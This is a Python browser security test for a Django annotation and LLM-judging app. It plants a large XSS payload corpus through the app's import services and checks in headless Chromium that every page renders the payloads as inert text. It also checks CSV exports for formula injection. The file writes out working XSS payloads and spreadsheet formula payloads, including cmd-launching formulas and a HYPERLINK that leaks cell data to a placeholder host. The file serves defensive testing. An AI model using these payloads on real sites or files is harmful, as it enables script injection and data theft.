"""A corpus of XSS payloads is planted through the real import services in every kind of
user- and LLM-provided text (instructions, references, responses, model, item, dataset,
domain, skill, rubric, campaign, judge, rater, template and project texts, rationales,
feedback, judge outputs, file names). Then every page that shows them (the site's pages,
their htmx partials, the browsable API and the Django admin) is opened in a real headless
Chromium as the persona who may see it, and each payload must stay inert text: no script
runs (the payloads report to `window.__xss` or open an alert), no event handler,
`javascript:`/`data:` URL, frame, foreign script, style or meta lands in the DOM, nothing
is fetched from elsewhere and the page does not navigate away. The long and wide CSV
exports are checked for formula injection as well.

One test walks all pages and reports every problem at once: planting the data takes a few
seconds and a live server per page would take minutes."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from unittest import mock
from urllib.parse import urlencode

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from playwright.sync_api import TimeoutError as PlaywrightTimeout

from analytics import tasks
from analytics.exports.services import (
    export_job_create,
    export_job_run,
    export_options_clean,
    export_write,
)
from analytics.imports.jobs import preference_import_job_create, preference_import_job_run
from analytics.imports.services import ScoreImportRejected, scores_import
from analytics.report import snapshots
from analytics.report.views import SECTIONS, ReportFilterForm
from annotation.campaigns.services import (
    annotator_expertise_set,
    campaign_activate,
    campaign_create,
    gold_task_set,
)
from annotation.datasets.services import FileSpec, dataset_import, dataset_upload_create
from annotation.models import (
    Assignment,
    Dataset,
    Domain,
    HumanScore,
    Item,
    ProjectRole,
    Response,
    Rubric,
    UploadSource,
    UploadStatus,
)
from annotation.names import name_problem
from annotation.selectors import task_skills
from annotation.services.assignments import (
    ScoreInput,
    assignment_claim_next,
    assignment_skip,
    human_score_submit,
)
from annotation.services.catalogue import skill_create
from annotation.services.metadata import (
    ProposalSpec,
    metadata_dataset_snapshot,
    metadata_proposals_record,
)
from annotation.services.projects import membership_set, project_create
from judging.baselines import BASELINES
from judging.models import JudgeConfig, JudgeKind, JudgeRun, Judgment
from judging.output_imports.services import judge_outputs_import
from judging.services import judge_config_create, prompt_template_create
from tests.analytics.snapshot_worker import compute_pending
from tests.judging.providers import llm_fields

pytestmark = [pytest.mark.browser, pytest.mark.slow]


def run(key: str) -> str:
    """The script a payload runs if it ever executes: it reports its key."""
    return f"window.__xss('{key}')"


# (key, text). Payloads that call run(key) say where they escaped; the plain alert(1) ones
# are caught as dialogs.
CORPUS: list[tuple[str, str]] = [
    ("script", "<script>alert(1)</script>"),
    ("script-key", f"<script>{run('script-key')}</script>"),
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-key", f"<img src=x onerror={run('img-onerror-key')}>"),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-onload-key", f"<svg/onload={run('svg-onload-key')}>"),
    ("md-link", f"[x](javascript:{run('md-link')})"),
    ("md-link-alert", "[x](javascript:alert(1))"),
    (
        "md-link-tricks",
        "[a](JaVaScRiPt:alert(1)) [b](&#106;avascript:alert(1)) [c](java%0ascript:alert(1)) "
        "[d]( javascript:alert(1)) <javascript:alert(1)> [e][r]\n\n[r]: javascript:alert(1)",
    ),
    ("md-image", f"![x](javascript:{run('md-image')}) ![y](x){{onerror={run('md-image')}}}"),
    ("md-title", '[t](https://example.org "\\" onmouseover=alert(1) x=\\"")'),
    ("a-href", f'<a href="javascript:{run("a-href")}">click</a>'),
    ("attr-double-quote", f'"><img src=x onerror={run("attr-double-quote")}>'),
    ("attr-single-quote", f"'><img src=x onerror={run('attr-single-quote')}>"),
    ("js-string", f"'-{run('js-string')}-' \\\";{run('js-string')};//"),
    ("textarea", f"</textarea><script>{run('textarea')}</script>"),
    ("json-script", f"</script><script>{run('json-script')}</script><!--"),
    (
        "template-text",
        "{{7*7}} {{ 'xss'|add:'evaluated' }} {% debug %} {% raw %}{% debug %}{% endraw %} "
        "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('alert(1)')()}}",
    ),
    ("iframe-srcdoc", f'<iframe srcdoc="<script>parent.{run("iframe-srcdoc")}</script>">'),
    ("iframe-src", f'<iframe src="javascript:parent.{run("iframe-src")}"></iframe>'),
    ("mxss", f"<math><mtext><table><mglyph><style><img src=x onerror={run('mxss')}>"),
    (
        "mxss-noscript",
        f'<noscript><p title="</noscript><img src=x onerror={run("mxss-noscript")}>">',
    ),
    ("details-ontoggle", f"<details open ontoggle={run('details-ontoggle')}>"),
    (
        "data-url",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a> '
        "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) "
        "![d](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    ),
    ("style-import", "<style>@import 'http://127.0.0.1:9/xss.css';</style>"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/">'),
    ("base-href", '<base href="http://127.0.0.1:9/">'),
    (
        "htmx-attributes",
        f'<div hx-get="/logout/" hx-trigger="load" hx-on::load="{run("htmx-attributes")}">h</div>'
        f'" hx-on::load="{run("htmx-attributes")}" x="',
    ),
    ("form-action", f'<form action="javascript:{run("form-action")}"><button>go</button></form>'),
    (
        "object-embed",
        f'<object data="javascript:{run("object-embed")}"></object>'
        f'<embed src="javascript:{run("object-embed")}">',
    ),
    ("input-autofocus", f"<input autofocus onfocus={run('input-autofocus')}>"),
    (
        "unicode",
        f"\u202e>tpircs/<)1(trela>tpircs<\u202c \u200b<scr\u200bipt>{run('unicode')}</script> "
        f"\uff1cscript\uff1e{run('unicode')}\uff1c/script\uff1e \u2028\u2029 \u0430lert(1)",
    ),
    ("md-code-fence", f'```"><script>{run("md-code-fence")}</script>\ncode\n```'),
    ("formula-equals", '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"open")'),
    ("formula-plus", "+SUM(1+1)*cmd|' /C calc'!A0"),
    ("formula-minus", "-2+3+cmd|' /C calc'!A0"),
    ("formula-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("long", "x" * 60_000 + f"<img src=x onerror={run('long')}>"),
]
TEXTS = dict(CORPUS)
ALL = "\n\n".join(text for _, text in CORPUS)  # markdown: one paragraph per payload
FORMULAS = [TEXTS[k] for k in ("formula-equals", "formula-plus", "formula-minus", "formula-at")]

# Short texts: names and ids, each with a key of its own.
NAMES = {
    "project": f"<script>{run('project')}</script>",
    "dataset": f'"><img src=x onerror={run("dataset")}>',
    "upload-file": f"<img src=x onerror={run('upload-file')}>.jsonl",
    "all-item": f'"><svg/onload={run("all-item")}>',
    "campaign": f"</title><script>{run('campaign')}</script>",
    "model-a": f"</script><script>{run('model-a')}</script>",
    "model-b": f"'-{run('model-b')}-'",
    "model-c": TEXTS["formula-equals"],
    "skill-1": f"<img src=x onerror={run('skill-1')}>",
    "skill-2": f"</script><script>{run('skill-2')}</script>",
    "skill-3": f"@SUM(1+1)*cmd|' /C calc'!A0 <svg onload={run('skill-3')}>",
    "skill-imported": f"<details open ontoggle={run('skill-imported')}>",
    "domain-1": f"<svg onload={run('domain-1')}>",
    "domain-2": f"\"><iframe srcdoc='<script>parent.{run('domain-2')}</script>'>",
    "unknown-skill": f"<img src=x onerror={run('unknown-skill')}>?",
    "unknown-domain": f"<svg onload={run('unknown-domain')}>?",
    "judge-review": f'<a href="javascript:{run("judge-review")}">judge</a>',
    "judge-long-1": f"</script><script>{run('judge-long-1')}</script>",
    "judge-long-2": f"'><img src=x onerror={run('judge-long-2')}>",
    "judge-long-3": TEXTS["formula-plus"],
    "judge-baseline": f"<math><mtext><table><mglyph><style><img src=x onerror={run('judge-b')}>",
    "judge-llm": f'<iframe src="javascript:parent.{run("judge-llm")}">',
    "llm-model": f'"><script>{run("llm-model")}</script>',
    "template": f"<img src=x onerror={run('template')}> {{{{7*7}}}}",
    "rater-human-1": TEXTS["formula-minus"],
    "rater-human-2": f'"><img src=x onerror={run("rater-human-2")}>',
    "rater-judge": f"</script><script>{run('rater-judge')}</script>",
    "score-file": f"<img src=x onerror={run('score-file')}>.csv",
    "preference-file": f"<svg onload={run('preference-file')}>.csv",
    "new-item": f"@SUM(2+2)*cmd|' /C calc'!A0 <img src=x onerror={run('new-item')}>",
    "flag": f"</textarea><img src=x onerror={run('flag')}>",
}
NOT_EVALUATED = ("xssevaluated", "DEFAULT_MESSAGE_LEVELS", "sql_queries")  # template text run

# Every element, attribute, script and style the payloads could leave live.
DOM_CHECK = """() => {
  const problems = [];
  const origin = location.origin;
  const urlAttrs = new Set(["href", "src", "action", "formaction", "data", "poster",
    "background", "codebase", "cite", "xlink:href", "ping", "srcset", "manifest"]);
  const payload = /__xss|alert\\(/;
  const name = el => el.tagName.toLowerCase() + (el.id ? "#" + el.id : "");
  for (const el of document.querySelectorAll("*")) {
    for (const attr of el.attributes) {
      const a = attr.name.toLowerCase();
      const v = attr.value.replace(/[\\u0000-\\u0020]/g, "").toLowerCase();
      if (a.startsWith("on")) problems.push(`${name(el)} has the handler ${a}`);
      else if (a === "srcdoc") problems.push(`${name(el)} has srcdoc`);
      else if (urlAttrs.has(a) && /^(javascript|vbscript|data):/.test(v))
        problems.push(`${name(el)} ${a}=${attr.value.slice(0, 60)}`);
      else if (/^(data-)?hx-on/.test(a)) problems.push(`${name(el)} has ${a}`);
      else if (/^(data-)?hx-/.test(a) && payload.test(attr.value))
        problems.push(`${name(el)} ${a}=${attr.value.slice(0, 60)}`);
    }
  }
  const live = "iframe, frame, frameset, object, embed, applet, portal, base, body meta, "
    + "body link, body style, noscript *";
  for (const el of document.querySelectorAll(live)) problems.push(`a live <${name(el)}>`);
  for (const el of document.querySelectorAll("svg, math"))
    if (payload.test(el.outerHTML)) problems.push(`a live <${name(el)}> from a payload`);
  for (const el of document.querySelectorAll("style"))
    if (/@import|__xss|javascript:/i.test(el.textContent)) problems.push("a payload's <style>");
  for (const s of document.scripts) {
    const ours = s.src
      ? s.src.startsWith(origin + "/static/") || s.src === origin + "/admin/jsi18n/"
      : s.type === "application/json";
    if (!ours) problems.push(`a foreign script: ${(s.src || s.textContent).slice(0, 60)}`);
  }
  for (const img of document.querySelectorAll("img[src]"))
    if (!img.src.startsWith(origin + "/static/")) problems.push(`<img src=${img.src}>`);
  return problems;
}"""
# What a page let through, in one call: the payloads that ran, the DOM check's problems, and
# which texts expected on the page are missing and which template texts were evaluated (the
# page's text stays in the browser: some pages carry hundreds of kilobytes of payloads).
REPORT = f"""([expected, evaluated]) => {{
  const text = document.body.textContent;
  return {{
    ran: window.__xssHits || [],
    problems: ({DOM_CHECK})(),
    missing: expected.filter(t => !text.includes(t)),
    evaluated: evaluated.filter(t => text.includes(t)),
  }};
}}"""
CHARTS_DRAWN = """() => {
  const canvases = [...document.querySelectorAll('canvas[data-chart]')];
  return window.Chart && canvases.length > 0 && canvases.every(c => Chart.getChart(c));
}"""


# --- planting -------------------------------------------------------------------------------


@dataclass
class Corpus:
    slug: str
    dataset_id: int
    upload_id: int
    all_item_id: int
    item_ids: list[int]
    all_response_id: int
    campaign_id: int
    pair_campaign_id: int
    skill_ids: list[int]
    template_id: int
    judge_ids: list[int]
    llm_judge_id: int
    run_ids: list[int]
    judgment_ids: list[int]
    human_score_id: int
    rubric_id: int
    domain_id: int
    project_id: int
    preference_job_ids: list[int]


def _user(django_user_model, username: str, **extra):
    return django_user_model.objects.create_user(
        username=username, password=f"pw-{username}", **extra
    )


def _jsonl(rows) -> str:
    return "".join(json.dumps(row) + "\n" for row in rows)


def _braces(text: str) -> str:
    """Literal text inside a prompt template."""
    return text.replace("{", "{{").replace("}", "}}")


def _as_id(text: str) -> str:
    """A payload as an item id: ids refuse line breaks, invisible and bidirectional
    characters (annotation.names), so those become spaces; the markup stays."""
    return "".join(" " if name_problem(c) else c for c in text).strip()


def _upload(project, tmp_path: Path, skills: list[str], domains: list[str]):
    """The generic JSONL import: the item with every payload first (the annotator gets it),
    then one item per payload, then a row whose unknown skill and domain become problems."""
    models = [NAMES["model-a"], NAMES["model-b"]]
    rows = [
        {
            "id": NAMES["all-item"],
            "instruction": ALL,
            "reference": ALL,
            "skills": skills,
            "domains": domains,
            "difficulty": 3,
            "task": ALL[:200],
            "checklist": {skills[0]: [t for _, t in CORPUS[:12]], skills[1]: FORMULAS},
            "metadata": {key: text for key, text in CORPUS if key != "long"},
            "responses": [{"model": m, "text": ALL} for m in [*models, NAMES["model-c"]]],
        }
    ]
    for n, (key, text) in enumerate(CORPUS):
        rows.append(
            {
                "id": _as_id(text[:200]),
                "instruction": text,
                "reference": text,
                "skills": skills,
                "domains": domains[: 1 + n % 2],
                "difficulty": 1 + n % 5,
                "task": key,
                "checklist": {skills[2]: [text[:500]]},
                "metadata": {"payload": text[:500]},
                "responses": [{"model": m, "text": text} for m in models],
            }
        )
    rows.append(
        {
            "id": "problem-row",
            "instruction": TEXTS["script"],
            "skills": [*skills[:2], NAMES["unknown-skill"]],
            "domains": [NAMES["unknown-domain"]],
            "responses": [{"model": models[0], "text": TEXTS["script"]}],
        }
    )
    path = tmp_path / "corpus.jsonl"
    path.write_text(_jsonl(rows))
    upload = dataset_upload_create(
        project=project,
        dataset_name=NAMES["dataset"],
        source=UploadSource.CLI,
        files=[(FileSpec(NAMES["upload-file"], format="generic-jsonl"), str(path))],
        policies={"unknown_skill": "accept", "invalid_domain": "accept", "skill_count": "accept"},
    )
    upload = dataset_import(upload_id=upload.pk)
    assert upload.status == UploadStatus.SUCCEEDED, upload.summary
    return upload


def _score_people(campaign, bob, alice, all_item) -> Assignment:
    """Bob scores the every-payload response with payload rationales and flags the next
    task with a payload reason; Alice then holds a lease on the same response."""
    first = assignment_claim_next(campaign=campaign, annotator=bob)
    rationales = [TEXTS["textarea"], ALL[:2000], "\n".join(FORMULAS)]
    scores = [
        ScoreInput(s.skill_id, 2 + n, rationale=rationales[n % 3], time_ms=1500)
        for n, s in enumerate(task_skills(assignment=first))
    ]
    human_score_submit(assignment_id=first.pk, annotator=bob, scores=scores, active_ms=9000)
    second = assignment_claim_next(campaign=campaign, annotator=bob)
    assignment_skip(assignment_id=second.pk, annotator=bob, reason=NAMES["flag"], flag=True)
    lease = assignment_claim_next(campaign=campaign, annotator=alice)
    assert Response.objects.get(pk=lease.task.response_id).item_id == all_item.pk
    return first


def _judge_outputs(project, dataset, skills: list[str], items: list[Item]) -> list[JudgeRun]:
    """A FLASK review file (the reviews are judge outputs with every payload) and a long
    table with payload judge names and rationales, through the judge-output import."""
    review = [
        {
            "question_id": item.external_id,
            "review": ALL if n == 0 else item.instruction,
            "score": {skills[0]: 4, skills[1]: "N/A", skills[2]: 2},
        }
        for n, item in enumerate(items[:6])
    ]
    review.append({"question_id": items[6].external_id, "review": ALL, "score": {}})
    runs = judge_outputs_import(
        project=project,
        dataset=dataset,
        files=[("review.jsonl", _jsonl(review).encode())],
        fmt="flask-review",
        judge_name=NAMES["judge-review"],
        model=NAMES["model-a"],
    ).runs
    judges = [NAMES["judge-long-1"], NAMES["judge-long-2"], NAMES["judge-long-3"]]
    rows = [
        {
            "item": item.external_id,
            "system": system,
            "rater": judge,
            "rater_kind": "judge",
            "skill": skill,
            "score": 1 + (n + j + s) % 5,
            "rationale": CORPUS[(n + j + s) % len(CORPUS)][1][:2000],
        }
        for n, item in enumerate(items[:8])
        for system in (NAMES["model-a"], NAMES["model-b"])
        for j, judge in enumerate(judges)
        for s, skill in enumerate(skills)
    ]
    runs += judge_outputs_import(
        project=project, dataset=dataset, files=[("long.jsonl", _jsonl(rows).encode())], fmt="long"
    ).runs
    return [r.run for r in runs]


def _imported_preferences(
    project, dataset, items: list[Item], skills: list[str], rita
) -> list[int]:
    """Pairwise preference labels from elsewhere, uploaded as the page does (a job the worker
    runs): payload raters on pairs of payload systems, per skill and overall, with payload
    rationales, in a file with a payload name; then a file whose rows name payload items, which
    is rejected with every problem. Returns the two jobs' ids."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(
        ["dataset", "item", "model_a", "model_b", "rater", "skill", "choice", "rationale"]
    )
    raters = (NAMES["rater-human-1"], NAMES["rater-human-2"], NAMES["rater-judge"])
    for n, item in enumerate(items[:10]):
        for r, rater in enumerate(raters):
            for s, skill in enumerate([*skills[:1], "Overall"]):
                choice = ("a", "b", "tie", "both_bad")[(n + r + s) % 4]
                rationale = CORPUS[(n + r + s) % len(CORPUS)][1][:2000]
                writer.writerow(
                    [dataset.name, item.external_id, NAMES["model-a"], NAMES["model-b"], rater,
                     skill, choice, rationale]
                )  # fmt: skip
    bad = io.StringIO()
    csv.writer(bad).writerows(
        [["dataset", "item", "model_a", "model_b", "rater", "choice"]]
        + [[dataset.name, text[:200], NAMES["model-a"], "x", rater, "a"] for (_, text), rater
           in zip(CORPUS[:20], raters * 7, strict=False)]
    )  # fmt: skip
    ids = []
    with mock.patch("analytics.tasks.preference_import_task.delay"):
        for name, data in (
            (NAMES["preference-file"], buffer.getvalue()),
            ("bad-" + NAMES["preference-file"], bad.getvalue()),
        ):
            job = preference_import_job_create(
                project=project, file=SimpleUploadedFile(name, data.encode()), created_by=rita
            )
            ids.append(preference_import_job_run(job_id=job.pk).pk)
    return ids


def _imported_scores(project, items: list[Item], skills: list[str], domain: str, researcher):
    """Long-format scores from elsewhere: payload raters (people and a judge) on stored
    responses, and a new item, response and skill the import creates."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["item", "system", "rater", "rater_kind", "skill", "score", "rationale"])
    raters = [
        (NAMES["rater-human-1"], "human"),
        (NAMES["rater-human-2"], "human"),
        (NAMES["rater-judge"], "judge"),
    ]
    for n, item in enumerate(items[:10]):
        for system in (NAMES["model-a"], NAMES["model-b"]):
            for r, (rater, kind) in enumerate(raters):
                for s, skill in enumerate(skills):
                    rationale = CORPUS[(n + r + s) % len(CORPUS)][1][:2000]
                    writer.writerow(
                        [
                            item.external_id,
                            system,
                            rater,
                            kind,
                            skill,
                            1 + (n * 3 + r + s) % 5,
                            rationale,
                        ]
                    )
    new = ["instruction", "response", "domain", "difficulty"]
    extra = io.StringIO()
    w = csv.writer(extra)
    w.writerow(["item", "system", "rater", "rater_kind", "skill", "score", "rationale", *new])
    for r, (rater, kind) in enumerate(raters):
        texts = [FORMULAS[3 - r], TEXTS["json-script"], TEXTS["mxss"], domain, 4]
        w.writerow(
            [NAMES["new-item"], NAMES["model-c"], rater, kind, NAMES["skill-imported"], 3, *texts]
        )
    files = [
        (NAMES["score-file"], buffer.getvalue().encode()),
        ("more-" + NAMES["score-file"], extra.getvalue().encode()),
    ]
    try:
        return scores_import(
            project_slug=project.slug,
            files=files,
            dataset_name=NAMES["dataset"],
            created_by=researcher,
        ).batch
    except ScoreImportRejected as exc:
        raise AssertionError(exc.problems) from exc


@pytest.fixture
def corpus(live_server, django_user_model, tmp_path) -> Corpus:
    _user(django_user_model, "admin", is_staff=True, is_superuser=True)
    rita = _user(django_user_model, "rita")
    alice = _user(django_user_model, "alice")
    bob = _user(django_user_model, "bob")
    project = project_create(slug="xss-corpus", name=NAMES["project"], description=ALL)
    membership_set(project=project, user=rita, role=ProjectRole.RESEARCHER)
    for person in (alice, bob):
        membership_set(project=project, user=person, role=ProjectRole.ANNOTATOR)
    # project domains have no service: an admin adds them in the Django admin
    domains = [
        Domain.objects.create(
            project=project,
            key=f"xss-{n}",
            name=NAMES[f"domain-{n}"],
            order=n,
            subdomains=[t[:200] for _, t in CORPUS[n::7]],
        )
        for n in (1, 2)
    ]
    anchors = [[t[:1000] for _, t in CORPUS[k : k + 5]] for k in (0, 5, 10)]
    skills = [
        skill_create(
            project=project,
            name=NAMES[f"skill-{n + 1}"],
            criterion=ALL if n == 0 else CORPUS[n * 7][1],
            anchors=anchors[n],
            created_by=rita,
        )
        for n in range(3)
    ]
    skill_names = [s.name for s in skills]
    upload = _upload(project, tmp_path, skill_names, [d.name for d in domains])
    dataset = upload.dataset
    items = list(Item.objects.filter(dataset=dataset).order_by("pk"))
    all_item = items[0]
    campaign = campaign_create(
        project=project,
        dataset=dataset,
        name=NAMES["campaign"],
        overlap=2,
        annotators=[alice, bob],
        instructions=ALL,
        created_by=rita,
    )
    gold = Response.objects.filter(item=items[-2], model_name=NAMES["model-b"]).get()
    gold_task_set(campaign=campaign, response=gold, scores={skills[0].pk: 3}, explanation=ALL)
    campaign_activate(campaign=campaign)
    pairs = campaign_create(
        project=project,
        dataset=dataset,
        name=NAMES["campaign"] + " (pairs)",
        overlap=1,
        annotators=[alice],
        instructions=ALL,
        mode="pairwise",
        pair_design="sampled",
        pair_budget=2,
        pair_strength=True,
        pair_rationale=True,
        created_by=rita,
    )
    campaign_activate(campaign=pairs)
    annotator_expertise_set(project=project, user=alice, domains=domains)
    first = _score_people(campaign, bob, alice, all_item)
    runs = _judge_outputs(project, dataset, skill_names, items)
    template, _ = prompt_template_create(
        project=project,
        key="xss-corpus",
        name=NAMES["template"],
        user_template="{instruction}\n{response}\n{skills}\n" + _braces(ALL),
        system_prompt=_braces(ALL),
        created_by=rita,
    )
    judge_config_create(
        project=project,
        name=NAMES["judge-baseline"],
        kind=JudgeKind.BASELINE,
        baseline=sorted(BASELINES)[0],
        created_by=rita,
    )
    llm = judge_config_create(
        project=project,
        name=NAMES["judge-llm"],
        kind=JudgeKind.LLM,
        **llm_fields("http://127.0.0.1:9/v1"),
        model=NAMES["llm-model"],
        extra_params={"stop": [t for _, t in CORPUS[:6]]},
        prompt_template=template,
        created_by=rita,
    )
    _imported_scores(project, items, skill_names, domains[1].name, rita)
    preference_job_ids = _imported_preferences(project, dataset, items, skill_names, rita)
    job = export_job_create(
        project=project,
        kind="long",
        fmt="csv",
        filters={"system": [NAMES["model-a"]], "judge": [NAMES["judge-long-1"]]},
        requested_by=rita,
        enqueue=False,
    )
    export_job_run(job_id=job.pk)
    return Corpus(
        slug=project.slug,
        dataset_id=dataset.pk,
        upload_id=upload.pk,
        all_item_id=all_item.pk,
        item_ids=[i.pk for i in items],
        all_response_id=Response.objects.get(item=all_item, model_name=NAMES["model-a"]).pk,
        campaign_id=campaign.pk,
        pair_campaign_id=pairs.pk,
        skill_ids=[s.pk for s in skills],
        template_id=template.pk,
        judge_ids=list(
            JudgeConfig.objects.filter(project=project).order_by("pk").values_list("pk", flat=True)
        ),
        llm_judge_id=llm.pk,
        run_ids=[r.pk for r in runs],
        judgment_ids=[Judgment.objects.filter(run=r).order_by("pk").first().pk for r in runs],
        human_score_id=HumanScore.objects.filter(assignment=first).order_by("pk").first().pk,
        rubric_id=Rubric.objects.filter(skill=skills[0]).get().pk,
        domain_id=domains[0].pk,
        project_id=project.pk,
        preference_job_ids=preference_job_ids,
    )


# --- the browser ----------------------------------------------------------------------------


@dataclass
class Visitor:
    """One persona's logged-in browser, which reports what each page let through."""

    page: object
    base: str
    problems: list[str]
    who: str
    dialogs: list[str] = field(default_factory=list)
    foreign: list[str] = field(default_factory=list)
    navigations: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)

    def visit(self, path: str, *, expect: tuple[str, ...] = (), wait: str = "") -> None:
        """Open a page, wait until it is ready (a selector or a JS predicate), check it."""
        self.reset()
        response = self.page.goto(self.base + path, wait_until="load")
        if response is None or response.status != 200:
            self.problems.append(f"{self.who} {path}: HTTP {response and response.status}")
            return
        self.check(path, expect=expect, wait=wait, stay=response.url)

    def reset(self) -> None:
        for seen in (self.dialogs, self.foreign, self.navigations, self.errors):
            seen.clear()

    def check(self, label: str, *, expect=(), wait: str = "", stay: str = "") -> None:
        """Report what the page as it is now let through. `stay`: the address the page must
        keep (one just opened); without it htmx may push addresses of this site."""
        where = f"{self.who} {label}"
        try:
            if wait.startswith("()"):
                self.page.wait_for_function(wait, timeout=15_000)
            elif wait:
                self.page.wait_for_selector(wait, state="attached", timeout=15_000)
        except PlaywrightTimeout:
            self.problems.append(f"{where}: the page never got ready ({wait[:40]})")
        if not stay:  # an interaction: let every htmx request it made settle
            self.page.wait_for_load_state("networkidle")
        # "load" waited for images (their onerror ran) and frames; a moment more for a meta
        # refresh or an htmx request on load
        self.page.wait_for_timeout(50)
        report = self.page.evaluate(REPORT, [list(expect), list(NOT_EVALUATED)])
        away = [
            u
            for u in self.navigations
            if (u != stay if stay else not u.startswith(self.base + "/"))
        ]
        found = [
            *(f"ran {key}" for key in report["ran"]),
            *(f"alert: {message}" for message in self.dialogs),
            *(f"fetched {u}" for u in self.foreign),
            *(f"navigated to {u}" for u in away),
            *(f"page error: {e}" for e in self.errors),
            *report["problems"],
            *(f"missing text {t[:40]!r}" for t in report["missing"]),
            *(f"template text evaluated ({t})" for t in report["evaluated"]),
        ]
        self.problems += [f"{where}: {problem}" for problem in found]


@contextmanager
def visitor(chromium, live_server, username: str, problems: list[str]) -> Iterator[Visitor]:
    # The site's Content-Security-Policy would block most escaped payloads from running; it
    # is bypassed here so that the escaping itself is what is tested, and a payload that
    # lands as markup also runs and reports itself.
    context = chromium.new_context(viewport={"width": 1280, "height": 900}, bypass_csp=True)
    context.add_init_script(
        "window.__xss = key => (window.__xssHits = window.__xssHits || []).push(key)"
    )
    page = context.new_page()
    page.set_default_timeout(20_000)
    me = Visitor(page=page, base=live_server.url, problems=problems, who=username)
    page.on("dialog", lambda d: (me.dialogs.append(d.message), d.dismiss()))
    page.on("pageerror", lambda e: me.errors.append(str(e)))
    page.on(
        "framenavigated",
        lambda frame: me.navigations.append(frame.url) if frame == page.main_frame else None,
    )

    def elsewhere(route) -> None:
        me.foreign.append(route.request.url)
        route.abort()

    context.route(lambda url: not url.startswith(live_server.url), elsewhere)
    site = live_server.url
    context.route(f"{site}/favicon.ico", lambda route: route.fulfill(status=204, body=""))
    # the site's style sheets change nothing the checks look at (a payload's own <style> is
    # checked in the DOM), and the admin's many of them would double the walk's time
    context.route(
        f"{site}/static/**/*.css",
        lambda route: route.fulfill(status=200, body="", content_type="text/css"),
    )
    page.goto(f"{live_server.url}/login/")
    page.fill("input[name=username]", username)
    page.fill("input[name=password]", f"pw-{username}")
    page.click("button[type=submit]")
    page.wait_for_url(f"{live_server.url}/")
    try:
        yield me
    finally:
        context.close()


# --- the export -----------------------------------------------------------------------------


def export_problems(slug: str, kind: str) -> list[str]:
    """Every cell of a CSV export (the header too) that a spreadsheet would evaluate."""
    from annotation.models import Project

    options = export_options_clean(project=Project.objects.get(slug=slug), kind=kind, fmt="csv")
    out = io.BytesIO()
    export_write(options, out)
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue().decode())) for cell in row]
    problems = [
        f"{kind} export: formula cell {cell[:40]!r}"
        for cell in cells
        if cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    ]
    # the wide table names its rater columns "kind:name"; its systems are still cells
    for formula in FORMULAS if kind == "long" else [NAMES["model-c"]]:
        if not any(cell.startswith("'" + formula) for cell in cells):
            problems.append(f"{kind} export: {formula[:20]!r} is missing or not neutralised")
    return problems


# --- the test -------------------------------------------------------------------------------


def report_ready(slug: str, query: dict) -> None:
    """The dashboard shows stored report snapshots: compute the one `query` asks for here,
    as the analytics worker would."""
    from django.http import QueryDict

    from annotation.models import Project

    project = Project.objects.get(slug=slug)
    form = ReportFilterForm(QueryDict(urlencode(query, doseq=True)), options=None)
    assert form.is_valid(), form.errors
    snapshots.snapshot_request(project=project, params=form.snapshot_params())
    compute_pending()


def test_every_payload_stays_inert_text_on_every_page(chromium, live_server, corpus, monkeypatch):
    # no worker runs here: the report snapshots are computed in this process (report_ready)
    monkeypatch.setattr(tasks.report_snapshot_compute_task, "delay", lambda *args, **kw: None)
    c = corpus
    problems = export_problems(c.slug, "long") + export_problems(c.slug, "wide")
    project = NAMES["project"]
    slug = c.slug

    def url(name: str, *args, query: str = "") -> str:
        return reverse(name, args=args) + query

    with visitor(chromium, live_server, "rita", problems) as rita:
        rita.visit(url("annotation:home"), expect=(project,))
        rita.visit(url("login", query="?" + urlencode({"next": TEXTS["attr-double-quote"]})))
        rita.visit(url("annotation:project-detail", slug), expect=(project, NAMES["dataset"]))
        rita.visit(url("annotation:dataset-detail", c.dataset_id), expect=(NAMES["all-item"],))
        rita.reset()  # a search typed in, the item list swapped in by htmx
        rita.page.fill("form.filters input[name=q]", TEXTS["attr-double-quote"])
        rita.page.click("form.filters button[type=submit]")
        rita.page.wait_for_url("**q=**")
        rita.check("dataset search", expect=(TEXTS["attr-double-quote"],))
        for item_id in c.item_ids:
            rita.visit(url("annotation:item-detail", item_id))
        rita.visit(
            url("annotation:catalogue", query=f"?project={slug}"), expect=(NAMES["skill-1"],)
        )
        rita.visit(url("annotation:catalogue"))
        rita.visit(
            url("annotation:rubric-edit", c.skill_ids[0], query=f"?project={slug}"),
            expect=(TEXTS["textarea"],),
        )
        rita.visit(url("annotation:skill-add", slug), expect=(project,))
        rita.visit(url("annotation:rubric-import", slug), expect=(project,))
        rita.visit(url("annotation:campaign-list", slug), expect=(NAMES["campaign"],))
        rita.visit(
            url("annotation:campaign-detail", c.campaign_id),
            expect=(NAMES["campaign"], NAMES["flag"], NAMES["domain-2"]),
        )
        rita.visit(url("annotation:campaign-update", c.campaign_id), expect=(TEXTS["textarea"],))
        rita.visit(
            url("annotation:campaign-detail", c.pair_campaign_id), expect=(NAMES["campaign"],)
        )
        rita.visit(url("annotation:campaign-create", slug))
        rita.reset()  # choosing the dataset swaps its models in (htmx)
        rita.page.select_option("#id_dataset", str(c.dataset_id))
        rita.page.dispatch_event("#id_dataset", "change")
        rita.check(
            "campaign form models",
            wait="#model-field input[type=checkbox]",
            expect=(NAMES["model-a"], NAMES["model-c"]),
        )
        rita.visit(url("judging:judge-list", slug), expect=(NAMES["judge-long-1"],))
        for judge_id in c.judge_ids:
            rita.visit(url("judging:judge-detail", judge_id))
